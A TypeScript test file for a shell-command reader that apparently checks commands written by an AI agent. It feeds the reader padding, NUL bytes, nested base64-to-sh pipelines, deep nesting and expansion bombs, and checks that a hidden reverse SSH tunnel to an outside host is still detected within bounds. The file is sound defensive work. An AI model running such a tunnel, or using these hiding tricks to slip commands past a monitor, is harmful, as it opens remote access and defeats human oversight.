// Texts that an agent may write to blind, slow or break the reader. How long a reading takes is bounded by its clock, so the tests bring their own.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { openShellReaderForTest } from './open-shell-reader-for-test.ts'
import { limits } from './read-budget.ts'
import type { ShellReading } from './shell-reading.ts'

/** A clock that moves by a tenth of a millisecond whenever somebody looks. */
let now = 0
const read = await openShellReaderForTest({
  nowMs: () => {
    now += 0.1
    return now
  },
})

const attack = 'ssh -R 9000:localhost:22 root@203.0.113.9'

function sizeOf({ commands, contents }: ShellReading): number {
  const ofCommands = commands.map(({ argv, redirects, assigns, parentLine }) => {
    const words = [...argv, ...redirects.map((each) => each.target), ...assigns.map((each) => each.value), parentLine]
    return words.reduce((sum, each) => sum + each.length, 0)
  })
  return [...ofCommands, ...contents.map((each) => each.text.length)].reduce((sum, each) => sum + each, 0)
}

function expectBounded(reading: ShellReading): void {
  expect(reading.commands.length).toBeLessThanOrEqual(limits.commands)
  expect(reading.contents.length).toBeLessThanOrEqual(limits.contents)
  expect(sizeOf(reading)).toBeLessThanOrEqual(limits.outputChars)
  for (const { pipedFrom, pipedInto } of reading.commands)
    expect(pipedFrom.length + pipedInto.length).toBeLessThanOrEqual(32)
  for (const { command } of reading.contents) expect(reading.commands[command]).toBeDefined()
}

const r = (text: string, times: number) => text.repeat(times)
const numbered = (times: number, between: string) => Array.from({ length: times }, (_, i) => `echo ${i}`).join(between)

describe('A text made to blind the reader', () => {
  it.each([
    ['five megabytes of blanks', r(' ', 5e6)],
    ['five megabytes of newlines', r('\n', 5e6)],
    ['megabytes of comments', r('# nothing to see\n', 2e5)],
    ['megabytes of NUL', r('\0', 5e6)],
    ['a word of five megabytes', `${r('A', 5e6)}\n`],
    ['a long list of one command', r('true;', 4e5)],
    ['many different lines', `${numbered(1e5, '\n')}\n`],
    ['thousands of heredocs', r('cat <<E\nx\nE\n', 3000)],
    ['a long pipeline', r('a|', 3000)],
    ['deep brackets', r('(', 300)],
    ['many groups', `${r('if true; then ', 200)}\n`],
    ['an unclosed quote', 'echo "'],
    ['syntax errors', `${r('} ) ;; fi done ', 100)}\n`],
  ])('hides no command behind %s', (_, padding) => {
    const reading = read(padding + attack)
    expect(reading.notFully).toBeDefined()
    expect(reading.commands.some(({ argv }) => argv.join(' ').includes(attack))).toBe(true)
    expectBounded(reading)
  })

  it('hides no command behind NUL that a decoder prints', () => {
    const script = `if true; then s\0sh -R 9000:localhost:22 root@203.0.113.9; fi`
    const reading = read(`echo ${btoa(script)} | base64 -d | sh`)
    expect(reading.commands.map(({ argv }) => argv.join(' '))).toContain(attack)
  })

  it('hides no command behind operators that make no sense', () => {
    const reading = read(`${r('{)', 4_000)}\n${attack}`)
    expect(reading.notFully).toBe('too many operators')
    expect(reading.commands.some(({ argv }) => argv.join(' ').includes(attack))).toBe(true)
  })

  it('hides no command between two long runs of one padding', () => {
    for (const padding of [r('true;', 2e5), r('x y\n', 2e5)]) {
      expect(read(`${padding}${attack}\n${padding}`).commands.map(({ argv }) => argv.join(' '))).toContain(attack)
    }
  })
})

describe('A text made to break the reader', () => {
  it.each([
    ['substitutions within substitutions', `${r('$(', 3000)}x${r(')', 3000)}`],
    ['quotes within substitutions', `${r('"$(', 3000)}x${r(')"', 3000)}`],
    ['backticks', r('`', 20_000)],
    ['brackets', r('(', 20_000)],
    ['expansions', r('${', 10_000)],
    ['arithmetic', r('$((', 5000)],
    ['redirections', r('> ', 10_000)],
    ['heredocs that never end', r('cat <<E <<F ', 1000)],
    ['case within case', r('case a in ', 2000)],
    ['braces that multiply', r('{a,b}', 400)],
    ['ranges that multiply', r('{1..9}', 40)],
    ['variables that double', `a=xxxxxxxxxxxxxxxxxxxx;${r('a=$a$a;', 60)}$a`],
    ['functions that call themselves', 'f() { f | f & f; }; f'],
    ['aliases of each other', "alias a='b' b='a'; a"],
    ['loops within loops', `${r('for i in a b c d; do $i;', 60)}${r('done;', 60)}`],
    ['wrappers without end', `${r('sudo ', 5000)}x`],
    ['eval without end', `${r('eval ', 2000)}x`],
    ['a script that writes itself', "echo 'sh x' > x; sh x"],
    ['find with thousands of commands', `find . ${r('-exec a {} \\; ', 1500)}`],
    ['xargs fed by thousands of words', `echo ${r('a ', 5000)} | xargs ssh`],
    ['printf that repeats', `printf '${r('%s', 5000)}' ${r('a ', 100)}`],
    ['lone surrogates', r('\ud800\udfff\udc00 ', 2000)],
    ['operators alone', r('|', 24_000)],
    ['brackets that open nothing', r('{)', 12_000)],
    ['NUL, decoded', `echo ${btoa(`if ${r('\0', 15_000)}`)} | base64 -d | sh`],
    ['prose', r("it's a (test, of) prose; isn't it? {maybe} [yes]\n", 200)],
    ['Python', r("def f(x):\n    return [y for y in x if y > 'it']\n", 200)],
  ])('is read within bounds: %s', (_, text) => {
    expectBounded(read(text))
  })

  it('of base64 within base64 is read as deep as anybody nests, and said to be deeper', () => {
    let text = attack
    for (let i = 0; i < 4; i++) text = `echo ${btoa(text)} | base64 -d | sh`
    expect(read(text).commands.map(({ argv }) => argv.join(' '))).toContain(attack)
    for (let i = 0; i < 8; i++) text = `echo ${btoa(text)} | base64 -d | sh`
    expect(read(text).notFully).toBe('nested too deeply')
  })

  it('never throws and stays within bounds, whatever the characters', () => {
    const scraps = fc.constantFrom(
      ...'\'"`$(){}[];|&<>\n\\#!=* ab0~-'.split(''),
      '$(',
      '${',
      '<<E',
      '<(',
      'if ',
      'then ',
      'fi',
      'do ',
      'done',
      'case ',
      ' in ',
      'esac',
      'sh -c ',
      'eval ',
      '\0',
      '\ud800',
    )
    const anything = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.array(scraps, { maxLength: 60 }).map((parts) => parts.join('')),
    )
    fc.assert(
      fc.property(anything, (text) => expectBounded(read(text))),
      { numRuns: 300 },
    )
  })
})

describe('A reading out of time', () => {
  it('ends, tells so, and still sees the words', async () => {
    let at = 0
    const hurried = await openShellReaderForTest({ nowMs: () => (at += 5) })
    const reading = hurried(`if true; then\n${r('a "b" | c\n', 500)}${attack}\nfi`)
    expect(reading.notFully).toBe('out of time')
    expect(reading.commands.length).toBeGreaterThan(0)
    expectBounded(reading)
  })

  it('is not remembered, so that the next look may see all', async () => {
    let step = 1000
    let at = 0
    const reader = await openShellReaderForTest({ nowMs: () => (at += step) })
    expect(reader("sh -c 'a'").notFully).toBe('out of time')
    step = 0
    expect(reader("sh -c 'a'").notFully).toBeUndefined()
  })
})
